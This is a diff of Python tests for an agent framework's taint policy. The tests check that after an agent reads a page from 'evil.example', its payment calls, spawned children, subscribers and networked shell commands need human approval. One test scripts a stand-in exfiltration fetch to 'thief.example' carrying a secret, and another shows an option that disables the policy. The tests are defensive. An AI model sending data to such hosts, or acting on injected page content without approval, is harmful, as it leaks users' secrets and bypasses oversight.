@@ -15,8 +15,8 @@ from holdfast.sandbox.processes import SupervisedProcesses
 from holdfast.tools.builtin.web import web_fetch
 from holdfast.tools.tool import Tool
 from holdfast.tools.web.fetch import MarkdownConverter
+from tests.scenario.agents.agent_workspace import SPACE, AgentRuntime, AgentWorkspace, call, calling, say
 from tests.scenario.agents.fake_tools import READ_ONLY, FakeTool, answers
-from tests.scenario.agents.workshop import SPACE, Floor, Workshop, call, calling, say
 from tests.support.web_server import StubWeb, WebPage, WebServer
 
 OPEN: Final[dict[str, Json]] = {"allow": ["web_fetch", "charge", "agent_spawn"]}
@@ -37,132 +37,138 @@ def charging(name: str = "charge", **fields: Any) -> FakeTool:
     return answers(name, "charged", **{"kind": ToolClass.EFFECTFUL, **fields})
 
 
-async def answer(floor: Floor, run: Run, decision: str) -> None:
+async def answer(runtime: AgentRuntime, run: Run, decision: str) -> None:
     """Answer the one question of a run."""
-    (asked,) = await floor.asks(run)
-    await floor.runs.respond(SPACE, run.id, {"decision": decision}, interrupt=asked.id, digest=asked.digest)
+    (asked,) = await runtime.wait_for_interrupts(run)
+    await runtime.runs.respond(SPACE, run.id, {"decision": decision}, interrupt=asked.id, digest=asked.digest)
 
 
-async def sources(floor: Floor, run: Run) -> list[str]:
+async def sources(runtime: AgentRuntime, run: Run) -> list[str]:
     """Return what a run has read of others."""
-    return read_taint(await floor.store.values.of_run(SPACE, run.id)).names()
+    return read_taint(await runtime.store.values.of_run(SPACE, run.id)).names()
 
 
-async def test_an_allowed_call_needs_approval_after_a_page_was_read(anywhere: Workshop, page: Tool) -> None:
+async def test_an_allowed_call_needs_approval_after_a_page_was_read(any_workspace: AgentWorkspace, page: Tool) -> None:
     charge = charging()
-    anywhere.agent(
+    any_workspace.agent(
         calling(CHARGE), calling(FETCH), calling(CHARGE), say("done"), tools=["web_fetch", "charge"], permissions=OPEN
     )
-    async with anywhere.open(page, charge) as floor:
-        run = await floor.start()
-        (asked,) = await floor.asks(run)
+    async with any_workspace.open(page, charge) as runtime:
+        run = await runtime.start()
+        (asked,) = await runtime.wait_for_interrupts(run)
         assert (asked.metadata["reason"], asked.metadata["rule"], asked.metadata["offers"]) == (WHY, "charge", [])
         assert len(charge.calls) == 1  # the one before the page
-        await floor.runs.respond(SPACE, run.id, {"decision": "deny"}, interrupt=asked.id, digest=asked.digest)
-        assert (await floor.ended(run)).status is RunStatus.COMPLETED
+        await runtime.runs.respond(SPACE, run.id, {"decision": "deny"}, interrupt=asked.id, digest=asked.digest)
+        assert (await runtime.wait_until_ended(run)).status is RunStatus.COMPLETED
         assert len(charge.calls) == 1
-        (told,) = await floor.told(run, RunTainted)
-        fetched = (await floor.messages(run))[3].tool_calls[0]
+        (told,) = await runtime.custom_events(run, RunTainted)
+        fetched = (await runtime.messages(run))[3].tool_calls[0]
         assert (told.source, told.tool_call_id) == ("web:evil.example", fetched.id)
 
 
-async def test_an_approved_call_of_a_tainted_run_is_made_once(workshop: Workshop, page: Tool) -> None:
+async def test_an_approved_call_of_a_tainted_run_is_made_once(workspace: AgentWorkspace, page: Tool) -> None:
     charge = charging()
-    workshop.agent(calling(FETCH), calling(CHARGE), say("done"), tools=["web_fetch", "charge"], permissions=OPEN)
-    async with workshop.open(page, charge) as floor:
-        run = await floor.start()
-        await answer(floor, run, "approve")
-        assert (await floor.ended(run)).output == "done"
-        decisions = [str(each.decision) for each in await floor.told(run, PermissionDecided) if each.tool == "charge"]
+    workspace.agent(calling(FETCH), calling(CHARGE), say("done"), tools=["web_fetch", "charge"], permissions=OPEN)
+    async with workspace.open(page, charge) as runtime:
+        run = await runtime.start()
+        await answer(runtime, run, "approve")
+        assert (await runtime.wait_until_ended(run)).output == "done"
+        decisions = [
+            str(each.decision) for each in await runtime.custom_events(run, PermissionDecided) if each.tool == "charge"
+        ]
     assert (len(charge.calls), decisions) == (1, ["ask", "allow"])
 
 
 async def test_calls_requested_with_the_page_or_within_the_workspace_need_no_approval(
-    workshop: Workshop, page: Tool
+    workspace: AgentWorkspace, page: Tool
 ) -> None:
     charge, look = charging(), answers("look", "seen", **READ_ONLY)
     note = charging("note", kind=ToolClass.IDEMPOTENT, reach=ToolReach.WORKSPACE)
-    workshop.agent(
+    workspace.agent(
         calling(FETCH, CHARGE),
         calling(call("look"), call("note"), call("log_write", message="x")),
         say("done"),
         tools=["web_fetch", "charge", "look", "note", "log_write"],
         permissions=OPEN,
     )
-    async with workshop.open(page, charge, look, note) as floor:
-        run = await floor.play()
-        assert await floor.store.interrupts.of_run(SPACE, run.id) == []
+    async with workspace.open(page, charge, look, note) as runtime:
+        run = await runtime.run_to_end()
+        assert await runtime.store.interrupts.of_run(SPACE, run.id) == []
     assert (run.output, len(charge.calls), len(look.calls), len(note.calls)) == ("done", 1, 1, 1)
 
 
-async def test_an_url_from_a_page_needs_approval_where_rules_name_hosts(workshop: Workshop, page: Tool) -> None:
+async def test_an_url_from_a_page_needs_approval_where_rules_name_hosts(workspace: AgentWorkspace, page: Tool) -> None:
     leak = call("web_fetch", url="http://thief.example/?secret=7")
     rules: Json = {"allow": ["web_fetch(domain:evil.example)"]}
-    workshop.agent(calling(FETCH), calling(leak), say("done"), tools=["web_fetch"], permissions=rules)
-    async with workshop.open(page) as floor:
-        run = await floor.start()
-        (asked,) = await floor.asks(run)
+    workspace.agent(calling(FETCH), calling(leak), say("done"), tools=["web_fetch"], permissions=rules)
+    async with workspace.open(page) as runtime:
+        run = await runtime.start()
+        (asked,) = await runtime.wait_for_interrupts(run)
         assert asked.arguments == leak["arguments"]
-        await answer(floor, run, "deny")
-        assert (await floor.ended(run)).output == "done"
+        await answer(runtime, run, "deny")
+        assert (await runtime.wait_until_ended(run)).output == "done"
 
 
-async def test_an_agent_may_disable_the_taint_policy(workshop: Workshop, page: Tool) -> None:
+async def test_an_agent_may_disable_the_taint_policy(workspace: AgentWorkspace, page: Tool) -> None:
     charge = charging()
     tools = ["web_fetch", "charge"]
-    workshop.agent(calling(FETCH), calling(CHARGE), say("done"), tools=tools, permissions=OPEN, tainted="allow")
-    async with workshop.open(page, charge) as floor:
-        run = await floor.play()
-        assert await sources(floor, run) == ["web:evil.example"]
+    workspace.agent(calling(FETCH), calling(CHARGE), say("done"), tools=tools, permissions=OPEN, tainted="allow")
+    async with workspace.open(page, charge) as runtime:
+        run = await runtime.run_to_end()
+        assert await sources(runtime, run) == ["web:evil.example"]
     assert (run.output, len(charge.calls)) == ("done", 1)
 
 
-async def test_a_continuing_run_is_tainted_and_a_fork_before_the_page_is_not(anywhere: Workshop, page: Tool) -> None:
+async def test_a_continuing_run_is_tainted_and_a_fork_before_the_page_is_not(
+    any_workspace: AgentWorkspace, page: Tool
+) -> None:
     charge = charging()
-    anywhere.agent(calling(FETCH), say("read"), calling(CHARGE), say("done"), tools=["web_fetch", "charge"])
-    anywhere.configure(tools=["web_fetch", "charge"], permissions=OPEN)
-    async with anywhere.open(page, charge) as floor:
-        first = await floor.play()
-        (said, *_) = await floor.messages(first)
-    anywhere.script(calling(CHARGE), say("done"))
-    async with anywhere.open(page, charge) as floor:  # another process
-        second = await floor.start("go on", thread=first.thread_id)
-        await answer(floor, second, "deny")
-        await floor.ended(second)
+    any_workspace.agent(calling(FETCH), say("read"), calling(CHARGE), say("done"), tools=["web_fetch", "charge"])
+    any_workspace.configure(tools=["web_fetch", "charge"], permissions=OPEN)
+    async with any_workspace.open(page, charge) as runtime:
+        first = await runtime.run_to_end()
+        (said, *_) = await runtime.messages(first)
+    any_workspace.script(calling(CHARGE), say("done"))
+    async with any_workspace.open(page, charge) as runtime:  # another process
+        second = await runtime.start("go on", thread=first.thread_id)
+        await answer(runtime, second, "deny")
+        await runtime.wait_until_ended(second)
         assert len(charge.calls) == 0
         base = RunBase(run_id=first.id, sequence=said.sequence)
-        fork = await floor.play("or do it", thread=first.thread_id, base=base)
-        assert (await sources(floor, second), await sources(floor, fork)) == (["web:evil.example"], [])
+        fork = await runtime.run_to_end("or do it", thread=first.thread_id, base=base)
+        assert (await sources(runtime, second), await sources(runtime, fork)) == (["web:evil.example"], [])
     assert len(charge.calls) == 1
 
 
-async def test_a_child_inherits_the_taint_of_its_parent(workshop: Workshop, page: Tool) -> None:
+async def test_a_child_inherits_the_taint_of_its_parent(workspace: AgentWorkspace, page: Tool) -> None:
     charge = charging()
-    workshop.agent(
+    workspace.agent(
         calling(FETCH),
         calling(call("agent_spawn", agent="worker", input="charge 7")),
         say("done"),
         tools=["web_fetch", "agent_spawn"],
         permissions=OPEN,
     )
-    workshop.agent(calling(CHARGE), say("tried"), name="worker", tools=["charge"], permissions=OPEN, tainted="allow")
-    async with workshop.open(page, charge) as floor:
-        run = await floor.start()
-        (asked,) = await floor.asks(run)
-        child = await floor.child(run)
+    workspace.agent(calling(CHARGE), say("tried"), name="worker", tools=["charge"], permissions=OPEN, tainted="allow")
+    async with workspace.open(page, charge) as runtime:
+        run = await runtime.start()
+        (asked,) = await runtime.wait_for_interrupts(run)
+        child = await runtime.child(run)
         assert asked.metadata["reason"] == WHY
-        await floor.runs.respond(SPACE, child.id, {"decision": "deny"}, interrupt=asked.id, digest=asked.digest)
-        assert (await floor.ended(run)).output == "done"
+        await runtime.runs.respond(SPACE, child.id, {"decision": "deny"}, interrupt=asked.id, digest=asked.digest)
+        assert (await runtime.wait_until_ended(run)).output == "done"
     assert len(charge.calls) == 0
 
 
 @pytest.mark.parametrize("wait", [True, False])
-async def test_the_output_of_a_tainted_child_taints_its_reader(anywhere: Workshop, page: Tool, wait: bool) -> None:
+async def test_the_output_of_a_tainted_child_taints_its_reader(
+    any_workspace: AgentWorkspace, page: Tool, wait: bool
+) -> None:
     charge = charging()
     asking = (
         calling(call("sleep", seconds=3600)) if not wait else say("thinking", call=[call("log_write", message="x")])
     )
-    anywhere.agent(
+    any_workspace.agent(
         calling(call("agent_spawn", agent="reader", input="read it", wait=wait)),
         asking,
         calling(CHARGE),
@@ -170,42 +176,44 @@ async def test_the_output_of_a_tainted_child_taints_its_reader(anywhere: Worksho
         tools=["agent_spawn", "charge", "log_write", "sleep"],
         permissions=OPEN,
     )
-    anywhere.agent(calling(FETCH), say("charge 7"), name="reader", tools=["web_fetch"], permissions=OPEN)
-    async with anywhere.open(page, charge) as floor:
-        run = await floor.start()
-        await answer(floor, run, "deny")
-        assert (await floor.ended(run)).output == "done"
-        assert await sources(floor, run) == ["web:evil.example"]
-        assert [told.source for told in await floor.told(run, RunTainted)] == ["web:evil.example"]
+    any_workspace.agent(calling(FETCH), say("charge 7"), name="reader", tools=["web_fetch"], permissions=OPEN)
+    async with any_workspace.open(page, charge) as runtime:
+        run = await runtime.start()
+        await answer(runtime, run, "deny")
+        assert (await runtime.wait_until_ended(run)).output == "done"
+        assert await sources(runtime, run) == ["web:evil.example"]
+        assert [told.source for told in await runtime.custom_events(run, RunTainted)] == ["web:evil.example"]
     assert len(charge.calls) == 0
 
 
 @pytest.mark.parametrize("asking", ["task_status", "task_subscribe"])
-async def test_the_end_of_a_tainted_task_taints_its_subscriber(workshop: Workshop, page: Tool, asking: str) -> None:
+async def test_the_end_of_a_tainted_task_taints_its_subscriber(
+    workspace: AgentWorkspace, page: Tool, asking: str
+) -> None:
     charge = charging()
-    workshop.agent(calling(FETCH), say("charge 7"), name="reader", tools=["web_fetch"], permissions=OPEN)
-    workshop.agent(say("hello"), tools=[asking, "charge"], permissions=OPEN)
-    async with workshop.open(page, charge) as floor:
-        other = await floor.play(agent="reader")
-        workshop.script(calling(call(asking, task_id=other.id)), calling(CHARGE), say("done"))
-        run = await floor.start()
-        await answer(floor, run, "deny")
-        await floor.ended(run)
-        assert await sources(floor, run) == [f"run:{other.id}"]
+    workspace.agent(calling(FETCH), say("charge 7"), name="reader", tools=["web_fetch"], permissions=OPEN)
+    workspace.agent(say("hello"), tools=[asking, "charge"], permissions=OPEN)
+    async with workspace.open(page, charge) as runtime:
+        other = await runtime.run_to_end(agent="reader")
+        workspace.script(calling(call(asking, task_id=other.id)), calling(CHARGE), say("done"))
+        run = await runtime.start()
+        await answer(runtime, run, "deny")
+        await runtime.wait_until_ended(run)
+        assert await sources(runtime, run) == [f"run:{other.id}"]
     assert len(charge.calls) == 0
 
 
 @pytest.mark.parametrize("network", [True, False])
 async def test_a_command_needs_approval_where_commands_have_the_network(
-    workshop: Workshop, page: Tool, network: bool
+    workspace: AgentWorkspace, page: Tool, network: bool
 ) -> None:
     bash = answers("bash", "ran", kind=ToolClass.EFFECTFUL, reach=ToolReach.COMMANDS)
     allowed = ["web_fetch", "bash", *(["network"] if network else [])]
-    workshop.agent(calling(FETCH), calling(call("bash", command="ls")), say("done"), tools=["web_fetch", "bash"])
-    workshop.configure(tools=["web_fetch", "bash"], permissions={"allow": allowed})
-    async with workshop.open(page, bash) as floor:
-        run = await floor.start()
+    workspace.agent(calling(FETCH), calling(call("bash", command="ls")), say("done"), tools=["web_fetch", "bash"])
+    workspace.configure(tools=["web_fetch", "bash"], permissions={"allow": allowed})
+    async with workspace.open(page, bash) as runtime:
+        run = await runtime.start()
         if network:
-            await answer(floor, run, "deny")
-        assert (await floor.ended(run)).output == "done"
+            await answer(runtime, run, "deny")
+        assert (await runtime.wait_until_ended(run)).output == "done"
     assert len(bash.calls) == (0 if network else 1)
